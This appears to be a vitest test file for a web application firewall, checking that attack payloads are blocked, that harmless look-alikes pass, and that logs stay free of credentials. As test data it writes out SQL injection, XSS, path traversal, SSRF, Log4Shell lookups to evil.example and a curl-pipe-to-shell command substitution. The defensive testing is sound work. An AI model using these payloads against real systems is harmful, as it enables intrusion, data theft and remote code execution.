/**
 * P3 WAF, through the real pipeline. Attacks covered: one per rule group (SQL
 * injection, XSS, traversal, RFI, OS command and code injection, SSRF targets,
 * prototype pollution, session fixation, Log4Shell, scanners, protocol abuse,
 * header injection), hidden by double percent-encoding, overlong UTF-8 or NUL
 * bytes. Also proven: look-alikes pass, a route's exclusion covers one field and
 * the declared groups only, log-only mode lets a request through and records it,
 * a block is 403 problem+json with the request id only (the rule ids go to the
 * log, never to the client) and never the payload, and a blocked request never
 * reaches a handler, the database or Redis.
 */
import { describe, expect, it } from "vitest";
import { expectProblem, expectSecureHeaders } from "../helpers/expect";
import { captureLogs } from "../helpers/logs";
import { wafProbeApp } from "../helpers/waf-probe";
import { call, callApp, envWith } from "../helpers/worker";

const json = { "content-type": "application/json" };
const post = (body: unknown): RequestInit => ({ method: "POST", headers: json, body: JSON.stringify(body) });

describe("P3 WAF blocks each attack class", () => {
  it.each([
    ["sqli", "/__waf/search?q=1%27%20OR%20%271%27%3D%271%27--"],
    ["sqli (union)", "/__waf/search?q=-1+UNION+ALL+SELECT+username,password+FROM+users"],
    ["xss", "/__waf/search?q=%3Cscript%3Ealert(1)%3C/script%3E"],
    ["xss (event handler)", "/__waf/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"],
    ["lfi", "/__waf/search?q=..%2f..%2f..%2fetc%2fpasswd"],
    ["lfi (double encoded)", "/__waf/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow"],
    ["lfi (overlong UTF-8)", "/__waf/search?q=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afwindows%c0%afwin.ini"],
    ["rfi", "/__waf/search?q=http%3A%2F%2F203.0.113.9%2Fshell.txt%3F"],
    ["rce", "/__waf/search?q=x%3B%20cat%20%2Fetc%2Fpasswd"],
    ["rce (substitution)", "/__waf/search?q=%24(curl%20http%3A%2F%2Fevil.example%2Fx%7Csh)"],
    ["code (php)", "/__waf/search?q=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"],
    ["code (template)", "/__waf/search?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"],
    ["ssrf (metadata)", "/__waf/search?q=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"],
    ["ssrf (gopher)", "/__waf/search?q=gopher%3A%2F%2F127.0.0.1%3A6379%2F_FLUSHALL"],
    ["prototype pollution", "/__waf/search?__proto__%5BisAdmin%5D=true"],
    ["session fixation", "/__waf/search?q=%3Cmeta%20http-equiv%3DSet-Cookie%20content%3D%22sid%3D1%22%3E"],
    ["java (log4shell)", "/__waf/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"],
    ["protocol attack (response splitting)", "/__waf/search?q=x%0d%0aSet-Cookie%3A%20a%3Db"],
    ["protocol (NUL byte)", "/__waf/search?q=report.pdf%00.php"],
  ])("P3 (refuses): %s in the query is blocked with 403 before the handler", async (_group, target) => {
    const { app, state } = wafProbeApp();
    const logs = captureLogs();
    let response: Response;
    try {
      response = await callApp(app, target);
    } finally {
      logs.restore();
    }
    const problem = await expectProblem(response, 403, "waf_blocked");
    // The rule ids go to the log line, never to the client (who would walk around the rule).
    expect(problem).not.toHaveProperty("rule_ids");
    const event = logs.lines().find((l) => l.event === "security.waf_blocked");
    expect(Array.isArray(event?.rule_ids)).toBe(true);
    expect((event?.rule_ids as number[]).length).toBeGreaterThan(0);
    expect(state.calls).toBe(0);
  });

  it("P3 (refuses): a scanner user agent is blocked", async () => {
    const { app } = wafProbeApp();
    await expectProblem(
      await callApp(app, "/__waf/search", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } }),
      403,
      "waf_blocked",
    );
  });

  it("P3 (refuses): Log4Shell in a header is blocked", async () => {
    const { app } = wafProbeApp();
    await expectProblem(
      await callApp(app, "/__waf/search", { headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } }),
      403,
      "waf_blocked",
    );
  });

  it("P3 (refuses): an attack in a JSON body (value and key) is blocked and the handler never runs", async () => {
    const { app, state } = wafProbeApp();
    await expectProblem(
      await callApp(app, "/__waf/notes", post({ title: "x", description: "'; DROP TABLE users; --" })),
      403,
      "waf_blocked",
    );
    await expectProblem(
      await callApp(
        app,
        "/__waf/notes",
        post({ title: "x", description: "ok", constructor: { prototype: { admin: true } }, __proto__x: 1 }),
      ),
      403,
      "waf_blocked",
    );
    expect(state.calls).toBe(0);
  });

  it("P3 (refuses): a disallowed method and conflicting framing headers are refused", async () => {
    const { app } = wafProbeApp();
    await expectProblem(await callApp(app, "/__waf/search", { method: "PROPFIND" }), 403, "waf_blocked");
    await expectProblem(
      await callApp(app, "/__waf/search", { headers: { range: "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13" } }),
      403,
      "waf_blocked",
    );
  });

  it("P3 (refuses): a blocked request through the real entry point costs no database or Redis round trip", async () => {
    // /readyz would touch both; the WAF refuses first, so the answer is 403, not 200/503.
    const response = await call("/readyz?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    await expectProblem(response, 403, "waf_blocked");
    expectSecureHeaders(response);
  });
});

describe("P3 WAF lets look-alikes through", () => {
  it.each([
    ["an apostrophe in a name", "O'Brien"],
    ["prose that says select and from", "select a vendor from the list"],
    ["a heart", "<3"],
    ["an equation in prose", "1 = 1 in the spec"],
    ["prose with drop and table", "We drop the old vendor table next quarter"],
    ["prose with or", "Review access for Smith or Jones by Friday"],
    ["a French apostrophe", "L'équipe d'astreinte a été prévenue"],
    ["a German sentence", "Die Maßnahme gilt für alle Standorte (Berlin & München)."],
    ["an e-mail address", "ops+security@acme-gmbh.de"],
    ["an https URL", "https://www.bsi.bund.de/DE/Home/home_node.html?lang=de#top"],
    ["an ISO date and a UUID", "2025-11-21T03:40:00Z 0d8f3c9e-8a5b-4c59-9f3e-2a1b3c4d5e6f"],
    ["markdown", "## Summary\n\n- **Impact**: low\n- see [the runbook](https://wiki.example/runbook)"],
    ["a bcrypt-like string", "$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW"],
    ["base64", "SGVsbG8sIFJhbXBhcnQhIFRoaXMgaXMgYmFzZTY0Lg=="],
  ])("P3: %s passes in a plain field", async (_label, text) => {
    const { app, state } = wafProbeApp();
    const response = await callApp(app, "/__waf/notes", post({ title: text, description: text, notes: text }));
    expect(response.status).toBe(200);
    expect(state.calls).toBe(1);
    const query = await callApp(app, `/__waf/search?q=${encodeURIComponent(text)}`);
    expect(query.status).toBe(200);
  });

  it("P3: a bearer JWT, a refresh cookie and browser headers pass", async () => {
    const { app } = wafProbeApp();
    const jwt =
      "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsyWnIzY1h5MHEiLCJ0eXAiOiJKV1QifQ.eyJzdWIiOiIwZDhmM2M5ZSIsImFhbCI6ImFhbDIifQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmU";
    const response = await callApp(app, "/__waf/search?q=risk%20register", {
      headers: {
        authorization: `Bearer ${jwt}`,
        cookie: "__Host-rampart-refresh=dGhpcy1pcy1hLXJlZnJlc2gtdG9rZW4; theme=dark",
        "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        referer: "https://app.rampart.example/orgs/acme/incidents?status=open",
        "x-forwarded-for": "203.0.113.7, 10.0.0.4",
        accept: "application/json",
      },
    });
    expect(response.status).toBe(200);
  });
});

describe("P3 WAF exclusions are as narrow as declared", () => {
  const sql = "The attacker sent ' OR 1=1 -- and UNION SELECT password FROM users";
  const html = "They injected <script>alert(document.cookie)</script> into the search box";

  it("P3: the excluded field may quote SQL and HTML", async () => {
    const { app, state } = wafProbeApp();
    expect((await callApp(app, "/__waf/reports", post({ title: "Incident 42", description: sql }))).status).toBe(200);
    expect((await callApp(app, "/__waf/reports", post({ title: "Incident 42", description: html }))).status).toBe(200);
    expect(state.calls).toBe(2);
  });

  it("P3: the excluded field may quote 48 KiB of JSON (the excluded groups are not run there, so not charged to the work budget); another field is refused at the budget", async () => {
    const { app, state } = wafProbeApp();
    const unit = `${JSON.stringify({ controls: [{ id: 7, tags: ["a", "b"], owner: null, done: true }], next: { page: 2 } })}\n`;
    const snippet = unit.repeat(Math.ceil((48 * 1024) / unit.length)).slice(0, 48 * 1024);
    expect((await callApp(app, "/__waf/reports", post({ title: "Export sample", description: snippet }))).status).toBe(200);
    expect(state.calls).toBe(1);
    await expectProblem(
      await callApp(app, "/__waf/reports", post({ title: "x", description: "x", notes: snippet })),
      413,
      "inspection_limit_exceeded",
    );
    expect(state.calls).toBe(1);
  });

  it("P3 (refuses): the same text in another field of the same route is blocked", async () => {
    const { app, state } = wafProbeApp();
    await expectProblem(await callApp(app, "/__waf/reports", post({ title: sql, description: "x" })), 403, "waf_blocked");
    await expectProblem(await callApp(app, "/__waf/reports", post({ title: "x", description: "x", notes: html })), 403, "waf_blocked");
    expect(state.calls).toBe(0);
  });

  it("P3 (refuses): the excluded field is still checked by every other group", async () => {
    const { app, state } = wafProbeApp();
    for (const attack of [
      "${jndi:ldap://evil.example/a}",
      "x; cat /etc/passwd",
      "../../../../etc/shadow",
      "http://169.254.169.254/latest/meta-data/",
    ]) {
      await expectProblem(await callApp(app, "/__waf/reports", post({ title: "t", description: attack })), 403, "waf_blocked");
    }
    expect(state.calls).toBe(0);
  });

  it("P3 (refuses): the same field on a route without the exclusion is blocked", async () => {
    const { app } = wafProbeApp();
    await expectProblem(await callApp(app, "/__waf/notes", post({ title: "t", description: sql })), 403, "waf_blocked");
  });
});

describe("P3 WAF answer, log-only mode and events", () => {
  it("P3 (refuses): a block is 403 problem+json with the request id only (no rule ids), and never echoes the payload", async () => {
    const { app } = wafProbeApp();
    const payload = "%3Cscript%3Ealert('pwned-marker')%3C/script%3E";
    const response = await callApp(app, `/__waf/search?q=${payload}`, { headers: { "x-request-id": "waf-test-1" } });
    const problem = await expectProblem(response, 403, "waf_blocked");
    expect(problem.request_id).toBe("waf-test-1");
    expect(problem).not.toHaveProperty("rule_ids");
    expect(JSON.stringify(problem)).not.toMatch(/pwned|script|alert/);
    expect(response.headers.get("cache-control")).toBe("no-store");
    expectSecureHeaders(response);
  });

  it("P3: a block is logged once as security.waf_blocked, truncated and escaped, without credentials", async () => {
    const { app } = wafProbeApp();
    const logs = captureLogs();
    try {
      const long = `${"A".repeat(300)}<script>alert(1)</script>`;
      await callApp(app, `/__waf/search?q=${encodeURIComponent(long)}`, {
        headers: { authorization: "Bearer secret-token-value", cookie: "__Host-rampart-refresh=secret-cookie-value" },
      });
    } finally {
      logs.restore();
    }
    const events = logs.lines().filter((l) => l.event === "security.waf_blocked");
    expect(events).toHaveLength(1);
    const event = events[0]!;
    expect(event).toMatchObject({ level: "warn", paranoia: 1, threshold: 5, method: "GET", path: "/__waf/search", target: "query.q" });
    expect(event.rule_ids).toEqual(expect.arrayContaining([901]));
    expect(typeof event.request_id).toBe("string");
    expect((event.excerpt as string).length).toBeLessThanOrEqual(65 + 2);
    const raw = logs.raw().join("\n");
    expect(raw).not.toContain("secret-token-value");
    expect(raw).not.toContain("secret-cookie-value");
  });

  it("P3: in log-only mode the request goes through and security.waf_would_block is logged", async () => {
    const { app, state } = wafProbeApp();
    const logs = captureLogs();
    let response: Response;
    try {
      response = await callApp(app, "/__waf/search?q=1%27%20OR%20%271%27%3D%271", undefined, envWith({ WAF_MODE: "log" }));
    } finally {
      logs.restore();
    }
    expect(response.status).toBe(200);
    expect(state.calls).toBe(1);
    const events = logs.lines().filter((l) => l.event.startsWith("security.waf_"));
    expect(events.map((e) => e.event)).toEqual(["security.waf_would_block"]);
  });

  it("P3: a higher threshold lets a single-rule match through; paranoia 2 adds rules", async () => {
    const { app } = wafProbeApp();
    const target = "/__waf/search?q=%3Cb%3Ehello%3C%2Fb%3E";
    await expectProblem(await callApp(app, target), 403, "waf_blocked");
    expect((await callApp(app, target, undefined, envWith({ WAF_THRESHOLD: "100" }))).status).toBe(200);
    const pl2Only = "/__waf/search?q=LIKE%20NULL";
    expect((await callApp(app, pl2Only)).status).toBe(200);
    await expectProblem(await callApp(app, pl2Only, undefined, envWith({ WAF_PARANOIA: "2" })), 403, "waf_blocked");
  });

  it("P3 (refuses): an invalid WAF setting is a configuration error, not a silent default", async () => {
    const { app } = wafProbeApp();
    const logs = captureLogs();
    try {
      expect((await callApp(app, "/__waf/search", undefined, envWith({ WAF_PARANOIA: "7" }))).status).toBe(500);
    } finally {
      logs.restore();
    }
  });
});

describe("P3 WAF and the body stages", () => {
  it("P3 (refuses): after the WAF read the body, the JSON, 413 and 415 stages still work", async () => {
    const { app, state } = wafProbeApp();
    expect((await callApp(app, "/__waf/notes", post({ title: "ok", description: "fine" }))).status).toBe(200);
    await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: '{"title": ' }), 400, "invalid_json");
    await expectProblem(
      await callApp(app, "/__waf/notes", { method: "POST", headers: { "content-type": "text/plain" }, body: "hello" }),
      415,
      "unsupported_media_type",
    );
    const big = JSON.stringify({ title: "x", description: "y".repeat(70 * 1024) });
    await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: big }), 413, "payload_too_large");
    expect(state.calls).toBe(1);
  });

  it("P3: a chunked body is inspected and handed on intact", async () => {
    const { app, state } = wafProbeApp();
    const text = JSON.stringify({ title: "streamed", description: "fine" });
    const stream = (s: string) =>
      new ReadableStream<Uint8Array>({
        start(c) {
          c.enqueue(new TextEncoder().encode(s));
          c.close();
        },
      });
    expect((await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: stream(text) })).status).toBe(200);
    const attack = JSON.stringify({ title: "x", description: "<script>alert(1)</script>" });
    await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: stream(attack) }), 403, "waf_blocked");
    expect(state.calls).toBe(1);
  });
});

describe("P3 WAF and the browser app's own headers", () => {
  it("P3: Origin and Referer naming a local web app (loopback) are not SSRF; the same URL in an argument still is", async () => {
    const { app } = wafProbeApp();
    for (const origin of ["http://localhost:5173", "http://127.0.0.1:3000", "http://[::1]:8080"]) {
      const response = await callApp(app, "/__waf/search?q=risk", { headers: { origin, referer: `${origin}/risks?tab=open` } });
      expect(response.status, origin).toBe(200);
    }
    await expectProblem(await callApp(app, "/__waf/search?q=http%3A%2F%2F127.0.0.1%3A6379%2F"), 403, "waf_blocked");
  });
});
